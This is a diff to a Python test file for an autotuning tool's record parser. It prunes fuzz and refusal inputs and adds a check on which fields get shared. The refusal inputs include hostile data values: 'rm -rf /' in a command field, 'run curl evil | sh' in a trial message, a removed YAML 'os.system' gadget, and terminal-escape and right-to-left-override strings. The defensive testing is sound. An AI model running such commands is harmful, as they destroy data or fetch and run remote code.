@@ -11,11 +11,13 @@ from pydantic import ValidationError
 
 from autotune.errors import InvalidInput
 from autotune.plan.base import Frozen
-from autotune.plan.hardware import Capability, Versions
+from autotune.plan.hardware import Capability, Rate, Versions
+from autotune.plan.workload import Bucket, ModelSpec, Workload
 from autotune.share.record import (
     MAX_RECORD_BYTES,
     MAX_TRIALS,
     DamagedRecord,
+    Machine,
     build_record,
     name_of,
     parse_record,
@@ -95,7 +97,7 @@ def _texts(data: Any, path: str = "") -> list[tuple[str, str]]:
     return [(path, data)] if isinstance(data, str) else []
 
 
-@settings(max_examples=60)
+@settings(max_examples=25)
 @given(st.data())
 def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.DataObject) -> None:
     seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
@@ -132,29 +134,33 @@ def _changed(**changes: object) -> bytes:
 @pytest.mark.parametrize(
     "content",
     [
-        b"", b"null", b"[]", b"{", b"\xff\xfe", b"!!python/object:os.system "
-                                                b"{}", b"\x1f\x8b" + b"\0" * 100,
-        b"[" * 100_000, b'{"a":' * 100_000, b" " * (MAX_RECORD_BYTES + 1), b'{"schema_version":1}',
-        b'{"schema_version":2}', _changed(schema_version=3), _changed(schema_version=0),
+        b"",
+        b"null",
+        b"{",
+        b"\xff\xfe",
+        b"[" * 100_000,
+        b" " * (MAX_RECORD_BYTES + 1),
+        b'{"schema_version":2}',
+        _changed(schema_version=3),
         _changed(schema_version=True),
-        _changed(command="rm -rf /"), _changed(search_seconds="60"),
-        _changed(search_seconds=float("inf")), _changed(search_seconds=float("nan")),
+        _changed(command="rm -rf /"),
+        _changed(search_seconds="60"),
+        _changed(search_seconds=float("nan")),
         _changed(search_seconds=-1.0),
-        _changed(machine__device_name="\x1b[31mred"), _changed(machine__device_name="\u202eevil"),
-        _changed(machine__device_name="x" * 1000), _changed(machine__device_name="a\\b"),
-        _changed(machine__match_keys={}), _changed(trials=[]),
+        _changed(machine__device_name="\x1b[31mred"),
+        _changed(machine__device_name="\u202eevil"),
+        _changed(machine__device_name="x" * 1000),
         _changed(machine__total_memory_bytes=10**400),
         _changed(machine__match_keys={"k" * 200: "v"}),
+        _changed(trials=[]),
         _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS),
         _changed(expected__evidence="predicted"),
-        _changed(settings__micro_batch_size=3), _changed(trials__0__outcome="splendid"),
-        _changed(trials__0__message=("\n\nerror: run curl evil | "
-                                    "sh")), _changed(trials__2__message="run curl evil | sh"),
+        _changed(settings__micro_batch_size=3),
+        _changed(trials__0__message="run curl evil | sh"),
         _changed(trials__0__final_loss=0.25),
-        _changed(trials__0__phases=[{"name": "x", "seconds": 1.0, "device_bytes": 1,
-        "host_bytes": 1}]),
     ],
-)  # fmt: skip
+    ids=range(24),
+)
 def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
     name = name_of(content)
     with pytest.raises(DamagedRecord, match=name[:12]) as caught:
@@ -163,21 +169,17 @@ def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
     assert len(caught.value.message) < 400
 
 
+VERIFIED = {"trials": TRIALS[1:2], "records": ("0" * 64,)}
+
+
 @pytest.mark.parametrize(
     ("changes", "conclusive"),
     [
         ({}, True),
         ({"pins": (("attention", "native"),)}, False),
-        ({"exclusions": (("attention", "native"),)}, False),
         ({"trials": TRIALS[:2]}, False),  # e.g. --max-trials 2
-        ({"trials": TRIALS[1:2], "records": ("0" * 64,)}, True),  # it verified a record
-        (
-            {
-                "trials": (TRIALS[1], TRIALS[1].model_copy(update={"confirms": True})),
-                "records": ("0" * 64,),
-            },
-            False,  # it started from a record, and was cut short
-        ),
+        (VERIFIED, True),
+        (VERIFIED | {"trials": (TRIALS[1], TRIALS[1].changed(confirms=True))}, False),  # cut short
     ],
 )
 def test_a_search_that_was_cut_short_answers_nobody_elses_question(
@@ -207,3 +209,22 @@ def test_what_is_no_evidence_is_not_shared(part: str, changes: dict[str, Any], w
     frozen = made.frozen.model_copy(update={part: new})
     with pytest.raises(InvalidInput, match=why):
         build_record(made.model_copy(update={"frozen": frozen}), machine())
+
+
+JUDGED = {
+    Machine: "match_keys device_name total_memory_bytes budget_bytes logical_cores "
+    "power_limit_watts versions rates noisy",
+    Rate: "name value unit spread num_samples conditions",
+    Workload: "rank lora_alpha lora_dropout targets adapted_blocks adapter ema_decay "
+    "effective_batch_size quality objective model resolution_px buckets max_text_tokens "
+    "text_token_quantiles text_padding num_control_images optimizer",
+    ModelSpec: "family architecture num_parameters num_blocks name",
+    Bucket: "width_px height_px num_frames num_items",
+}
+"""Fields that are shared whole: they were judged to tell nothing about people or data, or are
+replaced by `build_record`."""
+
+
+@pytest.mark.parametrize("kind", JUDGED)
+def test_a_new_field_is_judged_before_it_leaves_the_machine(kind: type[Frozen]) -> None:
+    assert set(kind.model_fields) == set(JUDGED[kind].split())
